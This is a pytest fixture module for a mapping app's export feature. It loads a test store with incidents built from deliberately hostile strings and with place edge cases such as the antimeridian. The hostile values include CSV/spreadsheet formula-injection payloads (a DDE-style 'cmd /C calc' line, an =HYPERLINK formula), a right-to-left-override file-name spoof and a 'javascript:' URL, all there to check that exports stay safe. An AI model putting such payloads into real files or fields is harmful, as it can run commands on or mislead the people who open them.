"""Files of one store: hostile texts, several places, no place, only a country, both sides of the antimeridian."""

from __future__ import annotations

from dataclasses import dataclass, field, replace
from pathlib import Path
from typing import Any

import pytest

from gazetteer.place import PlaceKind
from mapapp.domain.incident import PlaceRole
from mapapp.domain.view import View
from mapapp.store import Store, Tally
from mapapp.takeaway.formats import FORMATS
from mapapp.takeaway.take import take
from mapapp.web import link
from tests import builders
from tests.cases.hostile import HOSTILE_TITLES
from tests.web.stand_in import StandInGazetteer

FORMULAS = (
    '=HYPERLINK("https://example.org/?"&A1,"Homs")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "'=1",
    "\u202egnp.exe\u202c",
    "]]> &amp; <b>",
    "half a letter \ud83d and NUL \x00 and \x07 and \ufffe",
    "two\nlines",
)
HOSTILE = (*HOSTILE_TITLES, *FORMULAS)


def hostile(text: str, number: int) -> tuple[Any, list[Any]]:
    report = builders.a_report(f"{text} {number}", title=text, source=text, url="javascript:window.__pwn=1")
    span = builders.Span(start=0, end=len(text))
    place = builders.an_incident_place(text, surface=text, latitude=30 + number / 2, longitude=40 + number, admin1=text)
    incident = builders.an_incident(
        report=report,
        places=(place,),
        actors=(builders.a_party(text),),
        targets=(builders.a_party(text),),
        claims=(builders.a_claim(text, report_id=report.id, span=span),),
        maker=text,
    )
    return report, [incident]


def placed(name: str, *places: Any, **other: Any) -> tuple[Any, list[Any]]:
    report = builders.a_report(name, title=name)
    return report, [builders.an_incident(id=name, report=report, places=places, **other)]


FIJI = builders.an_incident_place("Taveuni", latitude=-16.85, longitude=179.97, country_code="FJ")
HOMS = builders.an_incident_place("Homs", latitude=34.73, longitude=36.72, role=PlaceRole.ORIGIN)
SAMOA = builders.an_incident_place("Apia", latitude=-13.83, longitude=-171.76, country_code="WS")
SYRIA = builders.an_incident_place("Syria", kind=PlaceKind.COUNTRY)

EVERYTHING = (
    *(hostile(text, number) for number, text in enumerate(HOSTILE)),
    placed("nowhere"),
    placed("somewhere-in-syria", SYRIA),
    placed("two-places", HOMS, SYRIA, replace(FIJI, role=PlaceRole.DESTINATION)),
    placed("east-of-the-line", FIJI, when=None),
    placed("west-of-the-line", SAMOA, counts=(builders.a_count(4, None),)),
)


EVERY_VIEW = View()


@dataclass(frozen=True, kw_only=True)
class Files:
    """Makes files of a view and says what the store holds of it."""

    store: Store
    folder: Path
    made: dict[Any, Path] = field(default_factory=dict)

    def __call__(self, key: str, view: View = EVERY_VIEW) -> Path:
        if (key, view) not in self.made:
            taken = take(
                self.store,
                view,
                FORMATS[key],
                link=f"https://maps.example/?{link.encode(view)}",
                atlas=StandInGazetteer,
            )
            path = self.folder / f"{len(self.made)}.{FORMATS[key].ending}"
            path.write_bytes(b"".join(taken.pieces))
            self.made[key, view] = path
        return self.made[key, view]

    def tally(self, view: View = EVERY_VIEW) -> Tally:
        return self.store.tally(view)


@pytest.fixture(scope="session")
def files(tmp_path_factory: pytest.TempPathFactory) -> Files:
    folder = tmp_path_factory.mktemp("taken")
    store = Store.open(f"sqlite:///{folder / 'incidents.sqlite'}")
    store.keep_many(EVERYTHING)
    return Files(store=store, folder=folder)
